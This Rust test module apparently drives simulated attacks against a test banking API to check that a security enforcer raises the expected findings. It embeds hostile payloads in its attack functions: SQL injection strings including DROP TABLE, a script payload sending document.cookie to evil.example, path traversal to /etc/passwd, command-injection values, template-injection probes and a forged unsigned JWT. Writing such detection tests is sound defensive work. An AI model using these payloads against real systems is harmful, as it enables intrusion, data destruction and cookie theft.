//! The ways in which the bank is attacked. In: a network. Out: attacks, each with the findings it must lead to and what its attacker
//! bears. Never here: how findings are judged.
use std::sync::Mutex;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use enforcer_tests::{Net, Request};

use super::person::{Person, Told};

/// One way.
pub(super) struct Attack<'n> {
    pub(super) name: &'static str,
    /// Kinds of findings of which one must be raised.
    pub(super) kinds: &'static [&'static str],
    person: Mutex<Person<'n>>,
    act: Act,
    progress: Mutex<Progress>,
}

/// What an attacker does at each step.
type Act = fn(&mut Person<'_>, u32) -> Told;

/// How far an attack has come.
#[derive(Clone, Default)]
pub(super) struct Progress {
    pub(super) began: Option<Instant>,
    pub(super) ended: Option<Instant>,
    pub(super) steps: u32,
    /// Everything its attacker has borne so far: addresses, devices, keys, tokens.
    pub(super) borne: Vec<String>,
}

impl Attack<'_> {
    /// Attacks until refused.
    pub(super) fn go_on(&self, over: &AtomicBool) {
        let mut person = self.person.lock().expect("nobody else attacks with it");
        self.progress.lock().expect("nobody panics with it").began = Some(Instant::now());
        let mut step = 0;
        while !over.load(Ordering::Relaxed) && self.progress().ended.is_none() {
            let told = (self.act)(&mut person, step);
            step += 1;
            self.note(&person, told, step);
            thread::sleep(PACE);
        }
    }

    fn note(&self, person: &Person<'_>, told: Told, steps: u32) {
        let mut progress = self.progress.lock().expect("nobody panics with it");
        progress.steps = steps;
        for mark in person.marks() {
            if !progress.borne.contains(&mark) {
                progress.borne.push(mark);
            }
        }
        progress.ended = (told == Told::Refused).then(Instant::now);
    }

    pub(super) fn progress(&self) -> Progress {
        self.progress.lock().expect("nobody panics with it").clone()
    }
}

const PACE: Duration = Duration::from_millis(25);
/// The customers that attackers are, in other hours.
const CROOK: u32 = 300;
const VICTIM: u32 = 200;

/// All ways.
pub(super) fn all(net: &Net) -> Vec<Attack<'_>> {
    let mut attacks = Vec::new();
    let mut add = |name, kinds, act, device: Option<&str>, key: Option<&str>| {
        let person = Person::visitor(net, 10 + u32::try_from(attacks.len()).expect("few"));
        let person = device.into_iter().fold(person, Person::with_device);
        let person = Mutex::new(key.into_iter().fold(person, Person::with_key));
        attacks.push(Attack { name, kinds, person, act, progress: Mutex::default() });
    };
    add("credential stuffing", &["credential_stuffing"], stuff as Act, Some("bot-1"), None);
    add("password spraying", &["password_spraying"], spray, None, None);
    add("password guessing", &["password_guessing"], guess, Some("bot-3"), None);
    add("walking through accounts", &["object_walking", "foreign_objects"], walk, Some("bot-4"), None);
    add("enumeration of users", &["user_enumeration"], enumerate, Some("bot-5"), None);
    add("a stolen session", &["stolen_session"], steal, Some(THIEF), None);
    add("an unsigned token", &["unsigned_token"], forge, Some("bot-7"), None);
    add("SQL injection", &["sql_injection"], inject_sql, Some("bot-8"), None);
    add("script injection", &["script_injection"], inject_script, Some("bot-9"), None);
    add("path traversal", &["path_traversal"], traverse, Some("bot-10"), None);
    add("command injection", &["command_injection"], inject_command, Some("bot-11"), None);
    add("template injection", &["template_injection"], inject_template, Some("bot-12"), None);
    add("bulk export", &["bulk_export", "data_harvest"], export, Some("bot-13"), None);
    add("path scanning", &["path_scanning"], scan, Some("bot-14"), None);
    add("exhaustion", &["slow_calls"], exhaust, Some("bot-15"), None);
    add("a huge page", &["huge_page"], ask_for_all, Some("bot-16"), None);
    add("request smuggling", &["request_smuggling"], smuggle, Some("bot-17"), None);
    add("a partner out of contract", &["outside_endpoints"], break_contract, None, Some("partner-18"));
    attacks
}

fn try_login(person: &mut Person<'_>, number: u32, password: &str) -> Told {
    let name = Person::name(number);
    person.post("/api/login", &format!("{{\"user\":\"{name}\",\"password\":\"{password}\"}}"))
}

fn stuff(person: &mut Person<'_>, step: u32) -> Told {
    try_login(person, 100 + step % 90, &format!("leaked{}", step * 7919))
}

fn spray(person: &mut Person<'_>, step: u32) -> Told {
    try_login(person, 201 + step % 90, ["Winter2026", "Spring2026"][step as usize % 2])
}

fn guess(person: &mut Person<'_>, step: u32) -> Told {
    try_login(person, 310, &format!("guess{step}"))
}

fn walk(person: &mut Person<'_>, step: u32) -> Told {
    match step {
        0 => person.log_in(CROOK),
        _ => person.get(&format!("/api/accounts/{}", 10_000 + step)),
    }
}

fn enumerate(person: &mut Person<'_>, step: u32) -> Told {
    let letter = |at: u32| char::from(b'a' + u8::try_from(step / 26_u32.pow(at) % 26).expect("a letter"));
    let guess: String = (0..4).map(letter).collect();
    let name = if step.is_multiple_of(3) { Person::name(50 + step) } else { guess };
    person.get(&format!("/api/users/{name}/profile"))
}

const THIEF: &str = "bot-6";

/// The victim goes on working while the thief uses the same token elsewhere.
fn steal(person: &mut Person<'_>, step: u32) -> Told {
    let thief = (person.device.clone(), person.address.clone());
    if step == 0 {
        return person.log_in(VICTIM);
    }
    if step.is_multiple_of(2) {
        return person.get("/api/accounts");
    }
    person.device = Some(format!("app-{VICTIM}"));
    "198.51.120.9".clone_into(&mut person.address);
    let told = person.get("/api/me");
    (person.device, person.address) = thief;
    assert_eq!(told, Told::Answered(200), "the victim of a theft was refused");
    told
}

fn forge(person: &mut Person<'_>, step: u32) -> Told {
    // {"alg":"none"}.{"sub":"ananan","exp":4102444800}
    person.token = Some("eyJhbGciOiJub25lIn0.eyJzdWIiOiJhbmFuYW4iLCJleHAiOjQxMDI0NDQ4MDB9.".to_owned());
    person.get(["/api/accounts", "/api/me"][step as usize % 2])
}

fn inject_sql(person: &mut Person<'_>, step: u32) -> Told {
    let words = [
        "x%27%20OR%20%271%27=%271",
        "x%27%20UNION%20SELECT%20name,card%20FROM%20users--",
        "x%27;%20DROP%20TABLE%20comments;--",
        "%27%20AND%20(SELECT%20count(*)%20FROM%20sqlite_master)%3E0--",
    ];
    person.get(&format!("/api/search?q={}", words[step as usize % words.len()]))
}

fn inject_script(person: &mut Person<'_>, step: u32) -> Told {
    let words = [
        "<script>fetch('//evil.example/'+document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(document.domain)>",
    ];
    person.post("/api/comments", &format!("{{\"text\":\"{}\"}}", words[step as usize % words.len()]))
}

fn traverse(person: &mut Person<'_>, step: u32) -> Told {
    let names = ["../../../../etc/hostname", "..%2f..%2f..%2fetc%2fissue", "/etc/hostname", "....//....//etc/passwd"];
    person.get(&format!("/api/documents?name={}", names[step as usize % names.len()]))
}

fn inject_command(person: &mut Person<'_>, step: u32) -> Told {
    let names = ["example.com; id", "$(whoami)", "x | cat /etc/hostname", "`uname -a`"];
    person.post("/api/lookup", &format!("{{\"name\":\"{}\"}}", names[step as usize % names.len()]))
}

fn inject_template(person: &mut Person<'_>, step: u32) -> Told {
    let texts = ["{{7*7}}", "${7*7}", "{{config.__class__.__init__.__globals__}}", "<%= 7*7 %>"];
    person.post("/api/preview", &format!("{{\"text\":\"Dear {}\"}}", texts[step as usize % texts.len()]))
}

fn export(person: &mut Person<'_>, step: u32) -> Told {
    match step {
        0 => person.log_in(CROOK + 13),
        _ => person.get(&format!("/api/export?page={step}")),
    }
}

fn scan(person: &mut Person<'_>, step: u32) -> Told {
    let words =
        ["admin", "backup", ".git/config", "wp-login.php", "actuator/env", "phpinfo", "console", "old", "test", "db"];
    person.get(&format!("/{}/{}", words[step as usize % words.len()], step / 10))
}

fn exhaust(person: &mut Person<'_>, step: u32) -> Told {
    match step {
        0 => person.log_in(CROOK + 15),
        _ => person.get("/api/report?depth=4000"),
    }
}

fn ask_for_all(person: &mut Person<'_>, step: u32) -> Told {
    match step {
        0 => person.log_in(CROOK + 16),
        _ => person.get("/api/accounts/21692/transactions?limit=1000000"),
    }
}

fn smuggle(person: &mut Person<'_>, _step: u32) -> Told {
    let request = Request::post("/api/comments", "0\r\n\r\n").header("Transfer-Encoding", "chunked");
    person.send(request).0
}

fn break_contract(person: &mut Person<'_>, step: u32) -> Told {
    match step % 4 {
        0 => person.get(&format!("/api/rates/{}", 100 + step)),
        _ => person.send(Request::delete(&format!("/api/rates/{}", 100 + step))).0,
    }
}
